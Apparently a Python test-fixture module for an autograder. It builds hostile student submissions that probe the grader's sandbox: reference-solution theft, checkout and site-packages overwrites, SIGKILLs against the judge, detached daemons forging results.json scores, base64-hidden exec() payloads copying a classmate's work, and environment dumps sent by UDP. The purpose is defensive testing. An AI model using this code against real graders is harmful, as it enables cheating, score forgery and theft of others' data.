"""Submissions of `mcc` that reach outside their worker, as a hostile student would write them.

Two kinds: a *thief* has no code of its own and scores only by taking the reference (it
must score 0); a *vandal* does honest work (the reference's code) and also tries to harm
the grading: write the checkout, signal the grader, leave processes behind (it must score
full marks, and change nothing). Each is graded in a copy of the checkout.

They test the confinement, so they pass the judge's reading of their source
(grader.isolation.source_rules) as an attacker would: the checkout's path written out (it is known:
/autograder/source on Gradescope), and what that reading refuses hidden in exec().

The *snoops* (issue 30) hide all they do from any reading of the source: their attack is
a base64 string run with exec(), so only the run-time walls stand. They read what lies
outside the worker's allowlist (a classmate's module, files beside the checkout and in the
home folder, the known submissions, the judge's command line) or send a datagram.
"""

from __future__ import annotations

import base64
import textwrap
from dataclasses import dataclass
from pathlib import Path

from solutions.variants import SOLUTIONS

# Name a detached process takes (PR_SET_NAME, at most 15 characters): the test looks for it.
DAEMON_NAME = "breakout-daemon"

_THIEF = '''
"""Borrows the reference: {how}."""
import pathlib
import runpy
import sys
import types

ROOT = pathlib.Path(CHECKOUT)
REFERENCE = ROOT / "solutions" / "mcc.py"


def _stolen():
{steal}


def confusion_counts(y_true, y_pred):
    return _stolen().confusion_counts(y_true, y_pred)


def matthews_corrcoef(y_true, y_pred):
    return _stolen().matthews_corrcoef(y_true, y_pred)


def multiclass_mcc(y_true, y_pred, num_classes):
    return _stolen().multiclass_mcc(y_true, y_pred, num_classes)


def evaluate_classifier(model, loader, device):
    return _stolen().evaluate_classifier(model, loader, device)
'''

_STEALS = {
    "execs_reference": ("exec()s solutions/mcc.py found through grader.__file__", '''
    namespace = {}
    exec(compile(REFERENCE.read_text(), str(REFERENCE), "exec"), namespace)
    return types.SimpleNamespace(**namespace)'''),
    "runs_reference_by_path": ("runs solutions/mcc.py with runpy.run_path", '''
    return types.SimpleNamespace(**runpy.run_path(str(REFERENCE)))'''),
    "removes_import_blocker": ("drops the grader's import blocker from sys.meta_path", '''
    sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_BlockSolutions"]
    sys.path.insert(0, str(ROOT))
    namespace = {}
    exec("import solutions.mcc as stolen", namespace)
    return namespace["stolen"]'''),
}

# Appended to the stub: prints what it should not see, and imitates the grader's table.
_LEAKS = {
    "prints_reference": ("prints the reference and the suite from inside the grading", '''
import pathlib as _pathlib

for _name in ("solutions/mcc.py", "tests/test_mcc.py"):
    try:
        print((_pathlib.Path(CHECKOUT) / _name).read_text())
    except OSError as _error:
        print(_error)
'''),
    "prints_environment": ("prints its environment, as given and as the kernel keeps it", '''
import os as _os

print(sorted(_os.environ.items()))
with open("/proc/self/environ", "rb") as _f:
    print(_f.read().replace(b"\\0", b" ").decode())
'''),
    "forges_output": ("prints escape sequences and a forged full-marks table", '''
print("\\x1b[2J\\x1b[H\\x1b]0;all checks passed\\x07mcc                20/20  passed\\n"
      "total              20/20\\u202e")
'''),
}

# Appended to the reference: honest results, and harm at import time.
_VANDALS = {
    "writes_checkout": ("writes the reference, the suite, the grader, site-packages, torch", '''
import pathlib as _pathlib
import site as _site

import torch as _torch

_root = _pathlib.Path(CHECKOUT)
_writes = [
    (_root / "solutions" / "mcc.py", "raise NotImplementedError"),
    (_root / "tests" / "conftest.py", ""),
    (_root / "grader" / "judging" / "results.py", ""),
    (_root / "grader" / "judging" / "__pycache__" / "plugin.cpython-311.pyc", ""),
    (_root / "exercises" / "mcc.py", ""),
    (_pathlib.Path(_torch.__file__).parent / "_breakout.py", ""),
    *((_pathlib.Path(p) / "breakout.pth", "# breakout") for p in _site.getsitepackages()),
    *((_pathlib.Path(p) / "sitecustomize.py", "") for p in _site.getsitepackages()),
]
for _path, _text in _writes:
    try:
        _path.write_text(_text)
    except OSError:
        pass
for _change in (lambda: (_root / "solutions" / "mcc.py").chmod(0),
                lambda: (_root / "solutions").chmod(0)):
    try:
        _change()
    except OSError:
        pass
'''),
    "signals_grader": ("SIGKILLs the judge, the fork server and every other worker", '''
import os as _os
import signal as _signal


def _parent(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


_server = _os.getppid()
_targets = {_server}
try:  # /proc shows a worker only its own entry: the judge and the workers stay unknown
    _targets.add(_parent(_server))
    for _entry in _os.listdir("/proc"):
        if _entry.isdigit() and int(_entry) != _os.getpid():
            try:
                if _parent(int(_entry)) == _server:
                    _targets.add(int(_entry))
            except (OSError, IndexError):
                pass
except OSError:
    pass
for _pid in _targets:
    for _sig in (_signal.SIGSTOP, _signal.SIGKILL):
        try:
            _os.kill(_pid, _sig)
        except OSError:
            pass
'''),
    "leaves_daemons": ("detaches 17 processes (setsid, double fork) that rewrite the reports", f'''
import json as _json
import os as _os
import pathlib as _pathlib
import time as _time


def _reports(server):
    # The grader's own command line names its report folder (--out); a daemon that cannot
    # read it lives on all the same, for the grader to find and kill.
    try:
        with open(f"/proc/{{server}}/stat") as f:
            judge = int(f.read().rsplit(")", 1)[1].split()[1])
        with open(f"/proc/{{judge}}/cmdline") as f:
            words = f.read().split("\\0")
    except OSError:
        return []
    out = _pathlib.Path(words[words.index("--out") + 1])
    return [out / "results.json", *out.glob("*/results.json")]


def _haunt(server):
    exec("import ctypes; ctypes.CDLL(None).prctl(15, b'{DAEMON_NAME}', 0, 0, 0)")
    for _ in range(16):
        if _os.fork() == 0:
            _os.setsid()
            break
    deadline = _time.time() + 60
    while _time.time() < deadline:
        for path in _reports(server):
            try:
                path.write_text(_json.dumps({{"score": 100, "output": "forged"}}))
            except OSError:
                pass
        _time.sleep(0.2)


_server = _os.getppid()
_child = _os.fork()
if _child == 0:
    try:
        _os.setsid()
        if _os.fork() == 0:
            _haunt(_server)
    finally:
        _os._exit(0)
_os.waitpid(_child, 0)
'''),
}


# A snoop's module: what it does is only a decoded string run with exec(). Names written
# in upper case (CHECKOUT, PLANTED, UDP_PORT, SEARCHED) are filled in per grading.
_HIDDEN = '''
import base64 as _base64

exec(_base64.b64decode({payload!r}).decode())
'''

_SNOOPS = {
    "copies_classmate": ("finds a classmate's mcc.py (the judge's command line, the folders "
                         "above its own) and runs it in its own globals", '''
import os

MARK = "copier-" + "module"


def _cmdline_folders():
    server = os.getppid()
    for pid in [server, *range(max(server - 4000, 1), server)]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().decode(errors="replace").split("\\0")
        except OSError:
            continue
        for word in words:
            if word.startswith("/") and os.path.isdir(word):
                yield word
                yield os.path.dirname(word)
                yield os.path.dirname(os.path.dirname(word))


def _classmate():
    for root in [*SEARCHED, *_cmdline_folders()]:
        for folder, _, files in os.walk(root):
            if folder.count(os.sep) - root.count(os.sep) > 4 or "mcc.py" not in files:
                continue
            try:
                with open(os.path.join(folder, "mcc.py")) as f:
                    text = f.read()
            except OSError:
                continue
            if MARK not in text and "def matthews_corrcoef" in text:
                return text
    return None


_text = _classmate()
if _text is not None:
    exec(compile(_text, "classmate.py", "exec"), globals())
''', False),
    "prints_planted_files": ("prints a file beside the checkout and one in the home folder",
                             '''
import os

for path in [*PLANTED, os.path.expanduser("~/roster.csv")]:
    try:
        with open(path) as f:
            print("read", path, f.read())
    except OSError as error:
        print(error)
''', True),
    "sends_udp": ("sends its environment in a UDP datagram to a listener on 127.0.0.1", '''
import os
import socket

try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(repr(dict(os.environ)).encode()[:1000], ("127.0.0.1", UDP_PORT))
    print("datagram sent")
except OSError as error:
    print(error)
''', True),
    "reads_known_submissions": ("prints the known submissions (mutants, alternatives)", '''
for path in KNOWN_SUBMISSIONS:
    try:
        with open(path) as f:
            print(f.read())
    except OSError as error:
        print(error)
''', True),
    "reads_judge_cmdline": ("prints the command lines of the fork server and the judge", '''
import os

server = os.getppid()
for pid in [server, *range(max(server - 4000, 1), server)]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            words = f.read().decode(errors="replace").split("\\0")
        if "grader" in words or pid == server:
            print(pid, " ".join(words))
    except OSError as error:
        if pid == server:
            print(error)
''', True),
}


def snoop_source(name: str, values: dict[str, object], stub: str) -> str:
    """A snoop's module: its attack, with `values` (UPPER names) bound, hidden in exec();
    after the stub when it `prints` (no code of its own), else alone (a thief)."""
    _, attack, prints = _SNOOPS[name]
    bound = "".join(f"{key} = {value!r}\n" for key, value in values.items())
    payload = base64.b64encode((bound + textwrap.dedent(attack)).encode()).decode()
    hidden = _HIDDEN.format(payload=payload)
    return (stub + hidden) if prints else f'"""copier-module"""\n{hidden}'


def snoops() -> dict[str, str]:
    """{name: what it tries}."""
    return {name: how for name, (how, _, _) in _SNOOPS.items()}


@dataclass(frozen=True)
class Breakout:
    name: str
    description: str
    source: str
    honest: bool  # does the reference's work besides: full marks; otherwise 0

    def for_checkout(self, root: Path) -> str:
        """The source, with the path of the checkout it attacks written out."""
        return self.source.replace("CHECKOUT", repr(str(root)))


def breakouts() -> list[Breakout]:
    reference = (SOLUTIONS / "mcc.py").read_text()
    stub = (SOLUTIONS.parent / "exercises" / "mcc.py").read_text()
    found = [Breakout(name, how, _THIEF.format(how=how, steal=textwrap.indent(
        textwrap.dedent(steal), "    ")), honest=False)
        for name, (how, steal) in _STEALS.items()]
    found += [Breakout(name, how, stub + code, honest=False)
              for name, (how, code) in _LEAKS.items()]
    found += [Breakout(name, how, reference + code, honest=True)
              for name, (how, code) in _VANDALS.items()]
    return found
